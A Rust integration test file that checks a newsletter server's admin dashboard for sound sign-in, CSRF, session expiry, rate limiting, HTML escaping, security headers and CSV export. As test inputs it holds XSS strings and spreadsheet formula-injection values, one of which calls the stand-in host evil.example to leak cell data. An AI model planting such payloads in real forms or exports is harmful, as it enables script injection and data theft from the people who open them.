//! The dashboard over real HTTP: sign-in, cookie flags, CSRF, sessions that
//! expire, nothing without a session, HTML escaped everywhere, and every page
//! reached by following links from `/admin` answers 200.

use std::collections::{BTreeSet, VecDeque};

use chrono::{Duration, Utc};
use posthorn::delivery::Stop;
use regex::Regex;
use reqwest::header::{COOKIE, LOCATION, SET_COOKIE};
use reqwest::{Response, StatusCode};

use crate::support::{harness, spawn_with, Action, RunningServer, SmtpServer, TestSite};

pub const TOKEN: &str = "correct-horse-battery-staple";

/// The value of `name` in a page's hidden input.
fn hidden(html: &str, name: &str) -> String {
    let re = Regex::new(&format!(r#"name="{name}" value="([^"]*)""#)).unwrap();
    re.captures(html)
        .map(|c| c[1].to_string())
        .unwrap_or_else(|| panic!("no hidden {name} in:\n{html}"))
}

fn set_cookies(r: &Response) -> Vec<String> {
    r.headers()
        .get_all(SET_COOKIE)
        .iter()
        .map(|v| v.to_str().unwrap().to_string())
        .collect()
}

fn cookie_value(cookies: &[String], name: &str) -> Option<String> {
    cookies
        .iter()
        .find_map(|c| c.strip_prefix(&format!("{name}=")))
        .map(|rest| rest.split(';').next().unwrap_or("").to_string())
        .filter(|v| !v.is_empty())
}

/// A signed-in client: the session cookie and the page's CSRF token.
#[derive(Debug)]
pub struct Signed {
    pub cookie: String,
    pub csrf: String,
}

pub async fn sign_in(s: &RunningServer, token: &str) -> Result<Signed, Response> {
    let form = s.client.get(s.url("/admin")).send().await.unwrap();
    assert_eq!(form.status(), 200);
    let login_cookie = cookie_value(&set_cookies(&form), "posthorn_login").expect("login cookie");
    let csrf = hidden(&form.text().await.unwrap(), "csrf");
    let r = s
        .client
        .post(s.url("/admin/login"))
        .header(COOKIE, format!("posthorn_login={login_cookie}"))
        .form(&[("csrf", csrf.as_str()), ("token", token)])
        .send()
        .await
        .unwrap();
    let Some(cookie) = cookie_value(&set_cookies(&r), "posthorn_admin") else {
        return Err(r);
    };
    let page = s
        .client
        .get(s.url("/admin"))
        .header(COOKIE, format!("posthorn_admin={cookie}"))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    Ok(Signed {
        csrf: hidden(&page, "csrf"),
        cookie,
    })
}

impl Signed {
    pub fn header(&self) -> String {
        format!("posthorn_admin={}", self.cookie)
    }

    /// GET `path` with the session's cookie.
    pub async fn get(&self, s: &RunningServer, path: &str) -> Response {
        s.client
            .get(s.url(path))
            .header(COOKIE, self.header())
            .send()
            .await
            .unwrap()
    }
}

async fn site_with_data() -> (SmtpServer, TestSite) {
    let (smtp, site, app) = spawn_with(|site| {
        site.append_config(&format!("\n[server]\nadmin_token = \"{TOKEN}\"\n"));
    })
    .await;
    smtp.set_rule(|rcpt| {
        if rcpt.starts_with("gone") {
            Action::RcptReply(550, "5.1.1 no such user".into())
        } else {
            Action::Accept
        }
    });
    site.add_subscribers(&app, &["reader@example.org", "gone@example.org"])
        .await;
    app.subscriptions()
        .add(
            &posthorn::domain::EmailAddress::parse("evil@example.org").unwrap(),
            "<script>alert('name')</script>",
            Utc::now(),
        )
        .await
        .unwrap();
    let now = site
        .new_post(
            &app,
            "evil.md",
            "<b>Bold</b> & <script>alert('title')</script>",
        )
        .await;
    app.tick().run_once(now, Stop::default()).await.unwrap();
    app.close().await;
    (smtp, site)
}

#[tokio::test(flavor = "multi_thread")]
async fn sign_in_cookies_csrf_and_sessions() {
    let (_smtp, site) = site_with_data().await;
    let s = RunningServer::start(&site, false).await;

    // Without a session nothing answers: pages send to the sign-in, posts are refused.
    for path in [
        "/admin/posts",
        "/admin/subscribers",
        "/admin/bounces",
        "/admin/subscribers.csv",
        "/admin/deliveries/1",
    ] {
        let r = s.client.get(s.url(path)).send().await.unwrap();
        assert_eq!(r.status(), StatusCode::SEE_OTHER, "{path}");
        assert_eq!(r.headers()[LOCATION], "/admin");
    }
    let r = s
        .client
        .post(s.url("/admin/subscribers"))
        .form(&[("email", "x@example.org")])
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::FORBIDDEN);

    // A wrong token gives no session.
    let wrong = sign_in(&s, "not-the-token").await.expect_err("refused");
    assert_eq!(wrong.status(), StatusCode::UNAUTHORIZED);
    // A sign-in without the form's token is refused.
    let r = s
        .client
        .post(s.url("/admin/login"))
        .form(&[("token", TOKEN)])
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::FORBIDDEN);
    assert!(cookie_value(&set_cookies(&r), "posthorn_admin").is_none());

    // The right one: the cookie carries its flags (https base URL: Secure).
    let form = s.client.get(s.url("/admin")).send().await.unwrap();
    let login_cookie = cookie_value(&set_cookies(&form), "posthorn_login").unwrap();
    let csrf = hidden(&form.text().await.unwrap(), "csrf");
    let r = s
        .client
        .post(s.url("/admin/login"))
        .header(COOKIE, format!("posthorn_login={login_cookie}"))
        .form(&[("csrf", csrf.as_str()), ("token", TOKEN)])
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::SEE_OTHER);
    let flags = set_cookies(&r)
        .into_iter()
        .find(|c| c.starts_with("posthorn_admin="))
        .expect("session cookie");
    for flag in ["HttpOnly", "SameSite=Strict", "Path=/admin", "Secure"] {
        assert!(flags.contains(flag), "{flag} in {flags}");
    }

    let signed = sign_in(&s, TOKEN).await.expect("signed in");
    let overview = signed.get(&s, "/admin").await.text().await.unwrap();
    assert!(overview.contains("<svg"), "charts drawn on the server");
    // The real counts: the 5.1.1 at RCPT bounced one reader at once.
    assert!(
        overview.contains(r#"data-status="active">2<"#),
        "{overview}"
    );
    assert!(
        overview.contains(r#"data-status="bounced">1<"#),
        "{overview}"
    );

    // A change without the CSRF token: 403, and nothing changes.
    let r = s
        .client
        .post(s.url("/admin/subscribers"))
        .header(COOKIE, signed.header())
        .form(&[("email", "new@example.org")])
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::FORBIDDEN);
    // From another site's page: 403 even with the token.
    let r = s
        .client
        .post(s.url("/admin/subscribers"))
        .header(COOKIE, signed.header())
        .header("Origin", "https://evil.example")
        .form(&[("email", "new@example.org"), ("csrf", &signed.csrf)])
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::FORBIDDEN);
    assert!(site.status_of(&s.app, "new@example.org").await.is_none());
    let r = s
        .client
        .post(s.url("/admin/subscribers"))
        .header(COOKIE, signed.header())
        .form(&[("email", "new@example.org"), ("csrf", &signed.csrf)])
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::SEE_OTHER);
    assert!(site.status_of(&s.app, "new@example.org").await.is_some());

    // HTML in a name or a title is escaped on every page that shows it.
    let evil = site.subscriber(&s.app, "evil@example.org").await.unwrap();
    for path in [
        "/admin".to_string(),
        "/admin/posts".into(),
        "/admin/subscribers".into(),
        format!("/admin/subscribers/{}", evil.id),
        "/admin/posts/evil".into(),
        "/admin/issues/evil".into(),
    ] {
        let r = signed.get(&s, &path).await;
        assert_eq!(r.status(), 200, "{path}");
        let html = r.text().await.unwrap();
        assert!(!html.contains("<script>alert"), "{path} lets HTML through");
        assert!(!html.contains("<b>Bold</b>"), "{path} lets HTML through");
    }

    // Signing out ends the session.
    let r = s
        .client
        .post(s.url("/admin/logout"))
        .header(COOKIE, signed.header())
        .form(&[("csrf", &signed.csrf)])
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::SEE_OTHER);
    let r = signed.get(&s, "/admin/posts").await;
    assert_eq!(r.status(), StatusCode::SEE_OTHER);

    // A session idle for more than 12 hours is over.
    let other = sign_in(&s, TOKEN).await.expect("signed in");
    let dashboard = s.app.dashboard();
    assert!(dashboard
        .session(&other.cookie, Utc::now() + Duration::hours(11))
        .await
        .unwrap()
        .is_some());
    assert!(dashboard
        .session(
            &other.cookie,
            Utc::now() + Duration::hours(11) + Duration::hours(13)
        )
        .await
        .unwrap()
        .is_none());
    let r = other.get(&s, "/admin/posts").await;
    assert_eq!(
        r.status(),
        StatusCode::SEE_OTHER,
        "the expired session is gone"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn every_page_linked_from_the_overview_answers() {
    let (_smtp, site) = site_with_data().await;
    let s = RunningServer::start(&site, false).await;
    let signed = sign_in(&s, TOKEN).await.expect("signed in");
    let href = Regex::new(r#"(?:href|src)="(/admin[^"]*)""#).unwrap();
    let mut seen = BTreeSet::new();
    let mut queue = VecDeque::from(["/admin".to_string()]);
    while let Some(path) = queue.pop_front() {
        if !seen.insert(path.clone()) {
            continue;
        }
        let r = signed.get(&s, &path.replace("&amp;", "&")).await;
        assert_eq!(r.status(), 200, "{path}");
        let is_html = r
            .headers()
            .get("content-type")
            .is_some_and(|v| v.to_str().unwrap_or("").starts_with("text/html"));
        if is_html && !path.ends_with("email.html") {
            let body = r.text().await.unwrap();
            for c in href.captures_iter(&body) {
                queue.push_back(c[1].to_string());
            }
        }
    }
    for expected in [
        "/admin/posts",
        "/admin/subscribers",
        "/admin/bounces",
        "/admin/issues/evil",
        "/admin/subscribers.csv",
    ] {
        assert!(
            seen.iter().any(|p| p.starts_with(expected)),
            "{expected} not reached: {seen:?}"
        );
    }
    assert!(seen.len() > 10, "{seen:?}");
}

#[tokio::test]
async fn without_a_token_the_dashboard_says_how_to_turn_it_on() {
    let site = TestSite::new(None);
    let s = RunningServer::start(&site, false).await;
    let r = s.client.get(s.url("/admin")).send().await.unwrap();
    assert_eq!(r.status(), StatusCode::FORBIDDEN);
    let html = r.text().await.unwrap();
    assert!(html.contains("POSTHORN_SERVER__ADMIN_TOKEN"), "{html}");
    assert!(!html.contains("name=\"token\""));
    let r = s
        .client
        .post(s.url("/admin/login"))
        .form(&[("token", "")])
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::FORBIDDEN);
}

#[tokio::test(flavor = "multi_thread")]
async fn growth_is_counted_as_it_happens() {
    let (_smtp, site) = site_with_data().await;
    let app = site.app().await;
    let total = |o: &posthorn::app::Overview| {
        o.growth.iter().fold((0, 0, 0, 0), |a, d| {
            (
                a.0 + d.new,
                a.1 + d.confirmed,
                a.2 + d.unsubscribed,
                a.3 + d.bounced,
            )
        })
    };
    let o = app.dashboard().overview(Utc::now()).await.unwrap();
    assert_eq!(
        total(&o),
        (3, 3, 0, 1),
        "three added and confirmed, one bounced"
    );
    let evil = site.subscriber(&app, "evil@example.org").await.unwrap();
    app.subscriptions()
        .unsubscribe_id(evil.id, Utc::now())
        .await
        .unwrap();
    let o = app.dashboard().overview(Utc::now()).await.unwrap();
    assert_eq!(total(&o), (3, 3, 1, 1));
    assert_eq!(o.growth.last().unwrap().unsubscribed, 1, "today");
    app.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn guessing_the_token_is_slowed_down() {
    let site = TestSite::new(None);
    site.append_config(&format!("\n[server]\nadmin_token = \"{TOKEN}\"\n"));
    let s = RunningServer::start(&site, false).await;
    let mut statuses = Vec::new();
    for _ in 0..7 {
        let refused = sign_in(&s, "a-guess").await.expect_err("refused");
        statuses.push(refused.status());
    }
    assert_eq!(statuses[..5], [StatusCode::UNAUTHORIZED; 5], "{statuses:?}");
    assert_eq!(statuses[6], StatusCode::TOO_MANY_REQUESTS, "{statuses:?}");
    // Even the right token waits its turn.
    let r = sign_in(&s, TOKEN).await.expect_err("limited");
    assert_eq!(r.status(), StatusCode::TOO_MANY_REQUESTS);
}

#[tokio::test(flavor = "multi_thread")]
async fn failed_api_tokens_and_sign_ins_share_one_limiter() {
    let site = TestSite::new(None);
    site.append_config(&format!("\n[server]\nadmin_token = \"{TOKEN}\"\n"));
    let s = RunningServer::start(&site, false).await;
    let api = |token: &str| s.client.get(s.url("/api/status")).bearer_auth(token).send();
    // The right token is not a failure: it never uses the allowance up.
    for _ in 0..10 {
        assert_eq!(api(TOKEN).await.unwrap().status(), StatusCode::OK);
    }
    let mut statuses = Vec::new();
    for _ in 0..200 {
        let r = api("a-guess").await.unwrap();
        if r.status() == StatusCode::TOO_MANY_REQUESTS {
            let wait: u64 = r.headers()["retry-after"]
                .to_str()
                .unwrap()
                .parse()
                .unwrap();
            assert!((1..=10).contains(&wait), "Retry-After: {wait}");
        }
        statuses.push(r.status());
    }
    assert_eq!(statuses[..5], [StatusCode::UNAUTHORIZED; 5], "{statuses:?}");
    let limited = statuses
        .iter()
        .filter(|s| **s == StatusCode::TOO_MANY_REQUESTS)
        .count();
    assert!(limited >= 190, "{limited} of 200 guesses limited");
    // Once over, the token is not even looked at: the right one waits too.
    let r = api(TOKEN).await.unwrap();
    assert_eq!(r.status(), StatusCode::TOO_MANY_REQUESTS);
    assert!(r.headers().contains_key("retry-after"));
    // And the dashboard's sign-in is the same limiter.
    let refused = sign_in(&s, TOKEN).await.expect_err("limited");
    assert_eq!(refused.status(), StatusCode::TOO_MANY_REQUESTS);
    assert!(refused.headers().contains_key("retry-after"));
}

#[tokio::test(flavor = "multi_thread")]
async fn failed_sign_ins_count_against_the_api_too() {
    let site = TestSite::new(None);
    site.append_config(&format!("\n[server]\nadmin_token = \"{TOKEN}\"\n"));
    let s = RunningServer::start(&site, false).await;
    for _ in 0..5 {
        let refused = sign_in(&s, "a-guess").await.expect_err("refused");
        assert_eq!(refused.status(), StatusCode::UNAUTHORIZED);
    }
    let r = s
        .client
        .get(s.url("/api/status"))
        .bearer_auth(TOKEN)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::TOO_MANY_REQUESTS);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_new_admin_token_ends_every_session() {
    let site = TestSite::new(None);
    site.append_config(&format!("\n[server]\nadmin_token = \"{TOKEN}\"\n"));
    let before = RunningServer::start(&site, false).await;
    let signed = sign_in(&before, TOKEN).await.expect("signed in");
    assert_eq!(signed.get(&before, "/admin/posts").await.status(), 200);

    // The same database, served with another token.
    site.set_config(TOKEN, "a-brand-new-token");
    let after = RunningServer::start(&site, false).await;
    let r = signed.get(&after, "/admin/posts").await;
    assert_eq!(r.status(), StatusCode::SEE_OTHER, "the old session is over");
    assert_eq!(r.headers()[LOCATION], "/admin");
    let r = after
        .client
        .post(after.url("/admin/subscribers"))
        .header(COOKIE, signed.header())
        .form(&[("email", "new@example.org"), ("csrf", &signed.csrf)])
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::FORBIDDEN);
    assert!(site
        .status_of(&after.app, "new@example.org")
        .await
        .is_none());
    // The new token signs in.
    let again = sign_in(&after, "a-brand-new-token")
        .await
        .expect("signed in");
    assert_eq!(again.get(&after, "/admin/posts").await.status(), 200);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_session_ends_twelve_hours_after_its_sign_in_however_busy() {
    let site = TestSite::new(None);
    site.append_config(&format!("\n[server]\nadmin_token = \"{TOKEN}\"\n"));
    let s = RunningServer::start(&site, false).await;
    let signed = sign_in(&s, TOKEN).await.expect("signed in");
    let hours_ago = |hours: i64| {
        format!(
            "UPDATE admin_sessions SET created_at = created_at - {}",
            hours * 3_600_000
        )
    };
    // Signed in eleven hours ago and busy ever since: still on.
    assert_eq!(site.execute(&hours_ago(11)).await, 1);
    assert_eq!(signed.get(&s, "/admin/posts").await.status(), 200);
    // Two hours more (just used, so never idle): over.
    assert_eq!(site.execute(&hours_ago(2)).await, 1);
    let r = signed.get(&s, "/admin/posts").await;
    assert_eq!(r.status(), StatusCode::SEE_OTHER);
    assert_eq!(r.headers()[LOCATION], "/admin");
    assert_eq!(
        site.execute("UPDATE admin_sessions SET created_at = created_at")
            .await,
        0,
        "the expired session is deleted"
    );
}

/// The cells of a CSV, row by row.
fn csv_rows(text: &str) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect()
}

#[tokio::test(flavor = "multi_thread")]
async fn exports_keep_formulas_from_the_form_as_text() {
    let site = TestSite::new(None);
    site.append_config(&format!("\n[server]\nadmin_token = \"{TOKEN}\"\n"));
    let s = RunningServer::start(&site, false).await;
    // What a stranger can type into the public form.
    let typed = [
        (
            "=1+2@example.org",
            r#"=HYPERLINK("https://evil.example/?x="&A1,"click")"#,
        ),
        ("-3@example.org", "+SUM(1,2)"),
        ("plain@example.org", "@cmd"),
        ("quoted@example.org", "'already text"),
        ("kim@example.org", "김독자"),
    ];
    for (email, name) in typed {
        let r = s
            .client
            .post(s.url("/subscribe"))
            .form(&[("email", email), ("name", name)])
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), 200, "{email}");
    }
    s.app.subscriptions().settled().await;
    let signed = sign_in(&s, TOKEN).await.expect("signed in");
    let r = signed.get(&s, "/admin/subscribers.csv").await;
    assert_eq!(r.status(), 200);
    let dashboard = r.text().await.unwrap();
    let cli = site.cli(&["subscribers", "export"]).await;
    assert_eq!(cli.code, 0, "{}", cli.stderr);
    assert_eq!(cli.stdout, dashboard, "one export for both");

    let rows = csv_rows(&dashboard);
    assert_eq!(rows.len(), typed.len() + 1, "{dashboard}");
    for cell in rows.iter().flatten() {
        assert!(
            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "a formula in {cell:?}"
        );
    }
    let find = |email: &str| {
        rows.iter()
            .find(|r| r[0].trim_start_matches('\'') == email)
            .unwrap_or_else(|| panic!("{email} in {dashboard}"))
            .clone()
    };
    assert_eq!(find("=1+2@example.org")[0], "'=1+2@example.org");
    assert_eq!(
        find("=1+2@example.org")[1],
        r#"'=HYPERLINK("https://evil.example/?x="&A1,"click")"#
    );
    assert_eq!(
        find("-3@example.org")[..2],
        ["'-3@example.org", "'+SUM(1,2)"]
    );
    assert_eq!(find("plain@example.org")[1], "'@cmd");
    assert_eq!(find("quoted@example.org")[1], "''already text");
    assert_eq!(find("kim@example.org")[..2], ["kim@example.org", "김독자"]);

    // The export imported elsewhere gives back the same addresses and names.
    let other = TestSite::new(None);
    let file = other.path().join("export.csv");
    std::fs::write(&file, &cli.stdout).unwrap();
    let imported = other
        .cli(&["subscribers", "import", file.to_str().unwrap()])
        .await;
    assert_eq!(imported.code, 0, "{}", imported.stderr);
    let app = other.app().await;
    for (email, name) in typed {
        let subscriber = other.subscriber(&app, email).await.expect(email);
        assert_eq!(subscriber.name, name, "{email}");
    }
    app.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn dashboard_answers_carry_a_tight_policy_and_no_inline_script() {
    let (_smtp, site) = site_with_data().await;
    let s = RunningServer::start(&site, false).await;
    let check = |r: &Response| {
        let h = r.headers();
        let url = r.url().path().to_string();
        assert_eq!(h["x-content-type-options"], "nosniff", "{url}");
        assert_eq!(h["referrer-policy"], "same-origin", "{url}");
        let csp = h["content-security-policy"].to_str().unwrap().to_string();
        (url, csp)
    };
    // The sign-in page, before any session.
    let r = s.client.get(s.url("/admin")).send().await.unwrap();
    let (_, csp) = check(&r);
    assert_eq!(
        csp,
        "default-src 'none'; script-src 'self'; style-src 'unsafe-inline'; \
         img-src 'self' data:; connect-src 'self'; frame-src 'self'; form-action 'self'; \
         base-uri 'none'; frame-ancestors 'none'"
    );
    assert_eq!(r.headers()["x-frame-options"], "DENY");

    let signed = sign_in(&s, TOKEN).await.expect("signed in");
    let evil = site.subscriber(&s.app, "evil@example.org").await.unwrap();
    let inline_script = Regex::new(r"<script(?:\s[^>]*)?>\s*[^<\s]").unwrap();
    let handler = Regex::new(r#"\son[a-z]+\s*="#).unwrap();
    for path in [
        "/admin".to_string(),
        "/admin/posts".into(),
        "/admin/posts/evil".into(),
        "/admin/issues/evil".into(),
        "/admin/subscribers".into(),
        format!("/admin/subscribers/{}", evil.id),
        "/admin/bounces".into(),
        "/admin/subscribers.csv".into(),
    ] {
        let r = signed.get(&s, &path).await;
        assert_eq!(r.status(), 200, "{path}");
        let (_, csp) = check(&r);
        assert!(csp.contains("frame-ancestors 'none'"), "{path}: {csp}");
        assert!(!csp.contains("script-src 'unsafe-inline'"), "{path}: {csp}");
        assert_eq!(r.headers()["x-frame-options"], "DENY", "{path}");
        if path.ends_with(".csv") {
            continue;
        }
        let body = r.text().await.unwrap();
        assert!(!inline_script.is_match(&body), "{path}: an inline script");
        assert!(!handler.is_match(&body), "{path}: an inline event handler");
    }
    // The live progress is a script file the policy allows.
    let issue = signed
        .get(&s, "/admin/issues/evil")
        .await
        .text()
        .await
        .unwrap();
    assert!(issue.contains(r#"<script src="/admin/issue.js"></script>"#));
    let script = s.client.get(s.url("/admin/issue.js")).send().await.unwrap();
    assert_eq!(script.status(), 200);
    assert_eq!(
        script.headers()["content-type"],
        "text/javascript; charset=utf-8"
    );
    assert!(script.text().await.unwrap().contains("new EventSource"));
    // The email's preview keeps its sandbox, and the dashboard may frame it.
    let r = signed.get(&s, "/admin/posts/evil/email.html").await;
    assert_eq!(r.status(), 200);
    let (_, csp) = check(&r);
    assert!(csp.starts_with("sandbox; "), "{csp}");
    assert!(csp.ends_with("frame-ancestors 'self'"), "{csp}");
    assert_eq!(r.headers()["x-frame-options"], "SAMEORIGIN");
}

#[cfg_attr(
    no_browser,
    ignore = "needs Chromium and chromedriver: apt-get install chromium chromium-driver"
)]
#[tokio::test(flavor = "multi_thread")]
async fn the_live_progress_runs_under_the_policy_in_chromium() {
    use fantoccini::Locator;
    let Some(b) = crate::support::browser::start().await else {
        return;
    };
    let browser = b.client.clone();
    let (smtp, site) = harness::site().await;
    // Messages wait at the mail server's gate for as long as the test needs.
    site.set_config("timeout_seconds = 5", "timeout_seconds = 120");
    site.append_config(&format!("\n[server]\nadmin_token = \"{TOKEN}\"\n"));
    let app = site.app().await;
    site.add_subscribers(&app, &["a@example.org", "b@example.org", "c@example.org"])
        .await;
    let day_ago = Utc::now() - Duration::days(1);
    site.set_meta("created_at", &day_ago.timestamp_millis().to_string())
        .await;
    site.write_post(
        "live.md",
        &crate::support::post("실시간", Utc::now() - Duration::hours(1), "본문"),
    );
    app.tick().sync_posts(Utc::now()).await.unwrap();
    app.close().await;
    let s = RunningServer::start_with_worker_at(&site, true).await;
    let wait = |css: &'static str| {
        let browser = browser.clone();
        async move {
            browser
                .wait()
                .at_most(std::time::Duration::from_secs(30))
                .for_element(Locator::Css(css))
                .await
                .unwrap_or_else(|e| panic!("{css}: {e}"))
        }
    };

    browser.goto(&s.url("/admin")).await.unwrap();
    wait("input[name=token]")
        .await
        .send_keys(TOKEN)
        .await
        .unwrap();
    wait("form button[type=submit]")
        .await
        .click()
        .await
        .unwrap();
    wait("[data-status=active]").await;
    smtp.close_gate();
    browser
        .goto(&s.url("/admin/posts/live/send"))
        .await
        .unwrap();
    wait("#confirm-send").await.click().await.unwrap();
    // The issue's page, drawn while every message waits at the gate.
    let sent = wait("#sent-so-far").await;
    smtp.wait_held(1).await;
    assert_eq!(sent.text().await.unwrap(), "0");
    // Only the page's script, fed by the events, can change the number now.
    smtp.open_gate();
    browser
        .wait()
        .at_most(std::time::Duration::from_secs(30))
        .for_element(Locator::XPath("//span[@id='sent-so-far'][text()='3']"))
        .await
        .expect("the live progress reaches every reader without a reload");
    s.stop_worker().await;
}

/// The bounces page says why each report came back, in its own column, and
/// the unmatched list says it too.
#[tokio::test(flavor = "multi_thread")]
async fn the_bounces_page_gives_each_report_its_reason() {
    use crate::bounces::{arf, dsn, headers_of};
    use posthorn::domain::ReportSource;
    let (smtp, site) = site_with_data().await;
    let s = RunningServer::start(&site, false).await;
    let bounce = dsn(
        "postmaster@example.com",
        "stranger@example.net",
        "5.1.1",
        "550 5.1.1 <stranger@example.net>: User unknown",
        "Subject: ?",
    );
    let done = s.app.bounces().ingest(&bounce, ReportSource::Mail).await;
    assert_eq!(done.unwrap().recorded.len(), 1);
    let complaint = arf("stranger@example.net", "Subject: ?");
    let done = s.app.bounces().ingest(&complaint, ReportSource::Mail).await;
    assert_eq!(done.unwrap().recorded.len(), 1);
    let listed = s.app.bounces().list(10).await.unwrap();
    let why = listed[1].reason.clone().unwrap_or_default();
    assert_eq!(why, "userunknown", "{listed:?}");

    let signed = sign_in(&s, TOKEN).await.expect("signed in");
    let r = signed.get(&s, "/admin/bounces").await;
    assert_eq!(r.status(), 200);
    let html = r.text().await.unwrap();
    assert!(
        html.contains("<th>상태</th><th>이유</th><th>결과</th>"),
        "{html}"
    );
    assert!(html.contains("<td>feedback</td>"), "{html}");
    assert!(html.contains(&format!("<td>{why}</td>")), "{html}");
    assert!(
        html.contains(" · stranger@example.net · feedback · "),
        "the unmatched list: {html}"
    );

    // A report tied to its delivery: the delivery's history says why too.
    let sent = smtp.messages();
    let to_reader = sent
        .iter()
        .find(|m| m.rcpt_to == ["reader@example.org"])
        .expect("the letter to the reader");
    let full = dsn(
        "postmaster@example.com",
        "reader@example.org",
        "4.2.2",
        "452 4.2.2 <reader@example.org>: Mailbox full",
        &headers_of(&to_reader.data),
    );
    let done = s.app.bounces().ingest(&full, ReportSource::Mail).await;
    assert_eq!(done.unwrap().recorded[0].effect.as_str(), "bounced");
    let why = s.app.bounces().list(1).await.unwrap()[0].reason.clone();
    let why = why.unwrap_or_default();
    assert_eq!(why, "mailboxfull");
    let delivery = site.log_by_email(&s.app, "evil").await["reader@example.org"].id;
    let r = signed
        .get(&s, &format!("/admin/deliveries/{delivery}"))
        .await;
    assert_eq!(r.status(), 200);
    let html = r.text().await.unwrap();
    assert!(html.contains(&format!("<td>4.2.2 ({why})</td>")), "{html}");
}
